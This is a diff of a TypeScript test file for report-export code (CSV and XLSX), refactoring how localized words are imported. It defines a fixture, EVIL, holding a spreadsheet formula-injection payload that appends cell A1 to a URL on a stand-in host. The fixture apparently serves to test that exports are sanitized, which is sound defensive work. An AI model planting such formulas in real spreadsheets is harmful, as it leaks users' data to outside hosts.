@@ -4,9 +4,10 @@ import { twoProportionTest } from '../../../../shared/domain/results/abTest';
 import { ratesOf, type Funnel } from '../../../../shared/domain/results/funnel';
 import type { CampaignReport, WeeklyReview } from '../../db/reports';
 import { campaignReportTables, reportCsvText, reportWorkbook, reportXlsxBytes, sheetName, weeklyReviewTables } from './exportReport';
-import { resultsWords } from './words';
+import { createTranslator } from '../../i18n';
+import { resultsWords } from '../../i18n/results';
 
-const w = resultsWords('en');
+const w = resultsWords(createTranslator('en').t);
 const funnel: Funnel = { queued: 10, sent: 9, delivered: 7, read: 3, replied: 2, failed: 1, skipped: 0, optedOut: 1 };
 const EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")';
 
